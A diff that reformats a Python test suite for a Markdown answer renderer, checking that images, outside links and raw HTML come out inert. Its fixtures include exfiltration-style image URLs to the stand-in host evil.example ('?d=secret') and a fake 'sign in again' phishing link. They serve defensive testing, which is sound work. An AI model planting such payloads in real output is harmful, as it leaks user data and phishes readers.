@@ -18,8 +18,10 @@ from knowledge.text import render
 from knowledge.text.highlight import WORD_JOINER
 
 EVIL = "evil.example"
-HOSTILE_NAME = ("[Click to sign in again](http://evil.example/login) ![x](http://evil.example/i.png) "
-                "<img src=http://evil.example/h.png>.md")
+HOSTILE_NAME = (
+    "[Click to sign in again](http://evil.example/login) ![x](http://evil.example/i.png) "
+    "<img src=http://evil.example/h.png>.md"
+)
 HOSTILE = [
     HOSTILE_NAME,
     "![status](http://evil.example/x?d=secret)",
@@ -56,14 +58,35 @@ GFM_EMAIL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)", re.ASCII)
 def external(markup: str) -> list[str]:
     """Every element of ``markup`` that would load or link: tags that fetch, links that leave."""
     soup = BeautifulSoup(markup, "html.parser")
-    found = [str(t) for t in soup.find_all(["img", "iframe", "script", "svg", "style", "object", "embed",
-                                            "video", "audio", "source", "link", "form", "details"])]
+    found = [
+        str(t)
+        for t in soup.find_all(
+            [
+                "img",
+                "iframe",
+                "script",
+                "svg",
+                "style",
+                "object",
+                "embed",
+                "video",
+                "audio",
+                "source",
+                "link",
+                "form",
+                "details",
+            ]
+        )
+    ]
     for a in soup.find_all("a"):
         href = a.get("href", "")
         if not render._relative(href):
             found.append(str(a))
-    found += [str(t) for t in soup.find_all(True) if any(k.startswith("on") or (k in ("src", "srcset", "style")
-                                                          and t.name not in ("th", "td")) for k in t.attrs)]
+    found += [
+        str(t)
+        for t in soup.find_all(True)
+        if any(k.startswith("on") or (k in ("src", "srcset", "style") and t.name not in ("th", "td")) for k in t.attrs)
+    ]
     return found
 
 
@@ -86,9 +109,11 @@ def test_an_answer_renders_nothing_that_loads_or_leaves(text: str):
 
 
 def test_an_answer_keeps_what_a_reader_expects():
-    out = render.answer_html("# Plan\n\nSome *emphasis* and **bold**.\n\n1. one\n2. two\n\n- a\n- b\n\n"
-                             "```python\nif a < b:\n    print('<b>')\n```\n\n| col | n |\n|---|--:|\n| x | 1 |\n\n"
-                             "> quoted\n\nSee [the stores](/stores) and [below](#sources).")
+    out = render.answer_html(
+        "# Plan\n\nSome *emphasis* and **bold**.\n\n1. one\n2. two\n\n- a\n- b\n\n"
+        "```python\nif a < b:\n    print('<b>')\n```\n\n| col | n |\n|---|--:|\n| x | 1 |\n\n"
+        "> quoted\n\nSee [the stores](/stores) and [below](#sources)."
+    )
     soup = BeautifulSoup(out, "html.parser")
     assert soup.find("h1").get_text() == "Plan"
     assert soup.find("em") and soup.find("strong") and soup.find("ol") and soup.find("ul")
@@ -99,27 +124,46 @@ def test_an_answer_keeps_what_a_reader_expects():
 
 
 def test_an_answer_shows_images_and_outside_links_as_words():
-    said = shown(render.answer_html("![status](http://evil.example/x?d=secret) and "
-                                    "[Click to sign in again](http://evil.example/login)"))
+    said = shown(
+        render.answer_html(
+            "![status](http://evil.example/x?d=secret) and [Click to sign in again](http://evil.example/login)"
+        )
+    )
     assert "[image: status] (http://evil.example/x?d=secret)" in said
     assert "Click to sign in again (http://evil.example/login)" in said
     assert shown(render.answer_html("<img src=http://evil.example/h.png>")) == "<img src=http://evil.example/h.png>"
     assert shown(render.answer_html("<http://evil.example/a>")) == "http://evil.example/a"  # once, not twice
 
 
-@pytest.mark.parametrize("text", [*HOSTILE, "a\nb", "* not a list", "# not a heading", "1. not a list",
-                                 "a & b < c > d \\ e", "    indented", "---", "| a | b |"])
+@pytest.mark.parametrize(
+    "text",
+    [
+        *HOSTILE,
+        "a\nb",
+        "* not a list",
+        "# not a heading",
+        "1. not a list",
+        "a & b < c > d \\ e",
+        "    indented",
+        "---",
+        "| a | b |",
+    ],
+)
 def test_inert_text_reads_as_exactly_itself(text: str):
     """Through a Markdown renderer (with or without HTML allowed), an inert value is one paragraph of
     plain text that reads as the value: no link, image, tag, emphasis, heading or code."""
     for html_allowed in (False, True):
-        tokens = MarkdownIt("commonmark", {"html": html_allowed}).enable(["table", "strikethrough"]).parse(
-            render.inert(text))
+        tokens = (
+            MarkdownIt("commonmark", {"html": html_allowed}).enable(["table", "strikethrough"]).parse(render.inert(text))
+        )
         assert {t.type for t in tokens} == {"paragraph_open", "inline", "paragraph_close"}, text
         kinds = {c.type for t in tokens if t.type == "inline" for c in t.children}
         assert kinds <= {"text", "softbreak", "hardbreak"}, (text, kinds)
-        said = "\n\n".join("".join("\n" if c.type.endswith("break") else c.content for c in t.children)
-                           for t in tokens if t.type == "inline")
+        said = "\n\n".join(
+            "".join("\n" if c.type.endswith("break") else c.content for c in t.children)
+            for t in tokens
+            if t.type == "inline"
+        )
         assert not GFM_AUTOLINK.search(said) and not GFM_EMAIL.search(said), said  # no address to link
         assert said.replace(WORD_JOINER, "") == text.replace("\t", " "), (text, said)
 
